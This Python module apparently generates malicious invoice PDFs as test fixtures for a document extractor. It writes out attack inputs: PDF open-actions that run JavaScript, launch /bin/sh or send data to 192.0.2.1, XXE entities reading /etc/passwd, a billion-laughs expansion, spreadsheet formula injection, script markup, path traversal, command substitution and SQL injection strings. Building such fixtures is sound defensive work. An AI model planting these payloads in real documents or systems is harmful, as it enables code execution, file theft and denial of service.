"""Files that hold something to run, to fetch, or to mislead."""

from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.ttfonts import TTFont
from reportlab.pdfgen.canvas import Canvas

from tests.extractors.drawing import draw, invoice

MARKUP = "<script>alert(1)</script>"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1;9)", '=HYPERLINK("http://192.0.2.1")')
HIDDEN = "\u202e\u200b\u2066\ufeff\u00ad"
"""Turns the reading direction, or shows nothing."""


def _changed(path: Path, change: str) -> None:
    with pikepdf.open(draw(path, invoice), allow_overwriting_input=True) as pdf:
        actions = {
            "javascript": Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://192.0.2.1/')")),
            "launch": Dictionary(S=Name.Launch, F=String("/bin/sh")),
            "fetch": Dictionary(S=Name.URI, URI=String("http://192.0.2.1/")),
            "send": Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/")),
        }
        pdf.Root.OpenAction = pdf.make_indirect(actions[change])
        pdf.pages[0].AA = Dictionary(O=pdf.make_indirect(actions[change]))
        pdf.save(path)


def a_script_at_opening(path: Path) -> None:
    _changed(path, "javascript")


def a_program_to_launch(path: Path) -> None:
    _changed(path, "launch")


def an_address_to_fetch(path: Path) -> None:
    _changed(path, "fetch")


def a_form_to_send(path: Path) -> None:
    _changed(path, "send")


def a_program_attached(path: Path) -> None:
    with pikepdf.open(draw(path, invoice), allow_overwriting_input=True) as pdf:
        pdf.attachments["../../facture.exe"] = b"MZ" + bytes(2000)
        pdf.save(path)


def a_file_outside_for_contents(path: Path) -> None:
    """The page's contents are said to lie in another file of the machine."""
    with pikepdf.open(draw(path, invoice), allow_overwriting_input=True) as pdf:
        pdf.pages[0].Contents.F = String("/etc/passwd")
        pdf.pages[0].Contents.FFilter = Array([])
        pdf.save(path)


_INVOICE = b"rsm:CrossIndustryInvoice"
_NAMES = b' xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"'


def _xml(declared: bytes, used: bytes) -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE a [' + declared + b"]>"
    return head + b"<" + _INVOICE + _NAMES + b">" + used + b"</" + _INVOICE + b">"


def _with_xml(path: Path, xml: bytes) -> None:
    with pikepdf.open(draw(path, invoice), allow_overwriting_input=True) as pdf:
        pdf.attachments["factur-x.xml"] = xml
        pdf.save(path)


def an_entity_that_reads_a_file(path: Path) -> None:
    _with_xml(path, _xml(b'<!ENTITY b SYSTEM "file:///etc/passwd">', b"&b;"))


def entities_that_multiply(path: Path) -> None:
    steps = b"".join(b'<!ENTITY b%d "&b%d;&b%d;">' % (n, n - 1, n - 1) for n in range(1, 41))
    _with_xml(path, _xml(b'<!ENTITY b0 "ha">' + steps, b"&b40;"))


def _printed(path: Path, texts: dict[tuple[float, float], str]) -> None:
    def page(canvas: Canvas) -> None:
        invoice(canvas)
        for (x, y), text in texts.items():
            canvas.drawString(x, 792 - y, text)

    draw(path, page)


def markup_and_formulas_in_the_fields(path: Path) -> None:
    def page(canvas: Canvas) -> None:
        canvas.setFont("Helvetica", 11)
        canvas.drawString(72, 702, MARKUP)
        canvas.drawString(72, 662, f"Facture {FORMULAS[0]}")
        canvas.drawString(72, 642, "Date : 2026-10-05")
        for place, text in enumerate((*FORMULAS, MARKUP)):
            y = 592 - 20 * place
            canvas.drawString(72, y, text)
            canvas.drawString(330, y, "10,00")
            canvas.drawString(400, y, "100,00")
            canvas.drawString(480, y, "1000,00")
        canvas.drawString(330, 400, "Total")
        canvas.drawString(480, 400, "6000,00")

    draw(path, page)


def characters_that_hide_or_turn(path: Path) -> None:
    pdfmetrics.registerFont(TTFont("DejaVu", "DejaVuSans.ttf"))

    def page(canvas: Canvas) -> None:
        invoice(canvas)
        canvas.setFont("DejaVu", 11)
        canvas.drawString(72, 332, "Reference " + "".join(f"a{mark}b" for mark in HIDDEN))

    draw(path, page)


def signs_of_every_alphabet(path: Path) -> None:
    _printed(path, {(72, 460): "％ｓ %s %n {0} {__class__} $(id) `id` ; DROP TABLE documents; -- ../../etc/passwd"})
